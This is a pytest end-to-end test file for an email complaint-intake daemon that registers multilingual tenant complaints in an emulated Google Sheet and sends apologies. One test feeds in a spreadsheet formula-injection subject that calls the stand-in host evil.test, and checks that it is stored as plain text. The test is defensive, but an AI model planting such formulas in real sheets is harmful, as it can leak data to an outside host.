"""Intake end to end: tenants email over real SMTP into Dovecot; the real daemon process
registers them in the emulated Google sheet through gspread and apologises over SMTP."""

from __future__ import annotations

from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path

import pytest

from daemon.sheet_layout import Event, Status

SHARED_MAIL = Path(__file__).resolve().parent.parent.parent / "shared" / "mail"


def subjects(raw_messages):
    return [message_from_bytes(raw, policy=policy.default)["Subject"] for raw in raw_messages]


def test_complaints_in_several_charsets_become_rows_and_apologies(park):
    tenants = [park.new_tenant("t") for _ in range(4)]
    park.send_complaint(tenants[0], "3号楼电梯坏了", "电梯停在5楼。\n公司：星辰科技有限公司\n电话：13800138000\n地址：3号楼2单元501",
                        charset="gb18030")
    park.send_complaint(tenants[1], "辦公室漏水", "天花板漏水，請儘快處理。", charset="big5")
    park.send_complaint(tenants[2], "Noise at night", "Loud noise from Building 5, Unit 302 every night.")
    park.send_complaint(tenants[3], "空调", "", html="<p>空调<b>不制冷</b></p><p>B座3层</p>")
    result = park.run_once_ok()
    assert "4 complaints registered" in result.stdout

    rows = {row["email"]: row for row in park.register_rows()}
    assert set(rows) == set(tenants)
    first = rows[tenants[0]]
    assert first["subject"] == "3号楼电梯坏了" and "电梯停在5楼" in first["content"]
    assert first["company"] == "星辰科技有限公司" and first["phone"] == "13800138000"
    assert "3号楼2单元501" in first["location"]
    assert first["category"] == "设施维护" and first["status"] == Status.DISPATCHED.label
    assert rows[tenants[1]]["subject"] == "辦公室漏水" and "漏水" in rows[tenants[1]]["content"]
    assert rows[tenants[2]]["category"] == "环境问题"
    assert "不制冷" in rows[tenants[3]]["content"]
    references = sorted(row["reference"] for row in rows.values())
    assert len(set(references)) == 4 and all(r.startswith("C-") for r in references)

    for tenant in tenants:
        [apology] = park.bench.wait_for_mail(tenant, n=1, timeout=10)
        parsed = message_from_bytes(apology, policy=policy.default)
        assert f"[{rows[tenant]['reference']}]" in parsed["Subject"]
        assert parsed["Auto-Submitted"] == "auto-replied"
    assert park.bench.count(park.complaints, "INBOX") == 0
    assert park.bench.count(park.complaints, "Processed") == 4

    events = [(a["reference"], a["event"]) for a in park.activity_rows()]
    for reference in references:
        assert (reference, Event.REGISTERED.value) in events
        assert (reference, Event.TENANT_ACKNOWLEDGED.value) in events


def test_a_second_run_registers_nothing_new(park):
    tenant = park.new_tenant()
    park.send_complaint(tenant, "垃圾没人清理", "楼下垃圾三天没清理")
    park.run_once_ok()
    park.run_once_ok()
    assert len(park.register_rows()) == 1
    assert len(park.mail_of(tenant)) == 1


def test_hostile_and_odd_messages(park):
    tenant = park.new_tenant()
    park.send_complaint(tenant, '=IMPORTXML("http://evil.test","//a")', "formula subject")
    park.send_complaint(tenant, "", "empty subject, still a complaint")
    park.send_complaint(tenant, "long", "很长的投诉。" * 10_000)  # 60,000 characters
    big = EmailMessage()
    big["From"] = tenant
    big["To"] = park.complaints
    big["Subject"] = "photos of the leak 漏水照片"
    big.set_content("see attached")
    big.add_attachment(b"\xff" * (5 * 1024 * 1024), maintype="image", subtype="jpeg",
                       filename="漏水.jpg")
    park.bench.send(tenant, [park.complaints], big)
    other = park.new_tenant()
    park.send_complaint(tenant, "same text", "the same words", message_id=False)
    park.send_complaint(other, "same text", "the same words", message_id=False)
    park.run_once_ok()

    rows = park.register_rows()
    assert len(rows) == 6
    by_subject = {row["subject"]: row for row in rows}
    assert '=IMPORTXML("http://evil.test","//a")' in by_subject
    assert "" in by_subject
    assert len(by_subject["long"]["content"]) <= 50_000 and "已截断" in by_subject["long"]["content"]
    assert "漏水.jpg" in by_subject["photos of the leak 漏水照片"]["attachments"]
    assert "MB" in by_subject["photos of the leak 漏水照片"]["attachments"]
    same = [row for row in rows if row["subject"] == "same text"]
    assert {row["email"] for row in same} == {tenant, other}


def test_auto_replies_get_no_answer_and_a_loop_is_capped(park):
    robot = park.new_tenant("robot")
    park.send_complaint(robot, "Automatic reply: 投诉", "I am out of office", Auto_Submitted="auto-replied")
    park.send_complaint(robot, "自动回复: 您好", "休假中", X_Autoreply="yes")
    for i in range(5):  # an auto-responder without any marker keeps writing
        park.send_complaint(robot, f"Re: 您的投诉 {i}", "Thank you for your message")
    park.run_once_ok()
    assert len(park.mail_of(robot)) == 3  # replies_per_sender_per_hour in config.yaml
    events = [a["event"] for a in park.activity_rows()]
    assert events.count(Event.AUTO_REPLY_IGNORED.value) == 2
    assert events.count(Event.REPLY_LIMITED.value) == 2


@pytest.mark.skipif(not (SHARED_MAIL / "sisimai_set_of_emails").is_dir(),
                    reason="../shared/mail (real bounces) is not present")
def test_real_bounces_from_the_corpus_get_no_answer(park):
    maildir = SHARED_MAIL / "sisimai_set_of_emails" / "maildir"
    files = sorted(p for p in maildir.rglob("*") if p.is_file())[:15]
    for path in files:
        park.bench.append(park.complaints, "INBOX", path.read_bytes())
    park.run_once_ok()
    assert park.register_rows() == []
    assert park.bench.count(park.complaints, "INBOX") == 0


def test_phone_complaint_typed_by_staff_gets_a_reference_and_the_tenant_an_apology(park):
    from tests.sheets_emulator.client import gspread_client

    park.run_once_ok()  # lays out the sheet
    tenant = park.new_tenant()
    sheet = gspread_client(park.emulator.base_url, str(park.key_path)).open_by_key(
        park.spreadsheet_id).worksheet("Register")
    header = sheet.row_values(1)
    row = [""] * len(header)
    row[header.index("主题 Subject")] = "电话投诉：停车位被占"
    row[header.index("邮箱 Email")] = tenant
    sheet.append_row(row, value_input_option="RAW", table_range="A1")
    park.run_once_ok()
    [typed] = park.register_rows()
    assert typed["reference"].startswith("C-") and typed["category"] == "物业管理"
    [apology] = park.bench.wait_for_mail(tenant, n=1, timeout=10)
    assert typed["reference"] in message_from_bytes(apology, policy=policy.default)["Subject"]


def test_unparseable_mail_is_quarantined_and_listed(park):
    park.bench.append(park.complaints, "INBOX", b"\x00\x01\x02 not an email at all \xff\xfe")
    park.run_once_ok()
    assert park.bench.count(park.complaints, "Quarantine") == 1
    assert any(a["event"] == Event.QUARANTINED.value for a in park.activity_rows())
    notices = park.bench.wait_for_mail(park.service_center, n=1, timeout=10)
    assert "quarantined" in message_from_bytes(notices[0], policy=policy.default)["Subject"]


def test_a_second_daemon_on_the_same_state_dir_is_refused(park):
    from daemon.lock import StateLock

    with StateLock(park.dir / "state"):
        result = park.run_once()
    assert result.returncode == 1
    assert "already running" in result.stderr
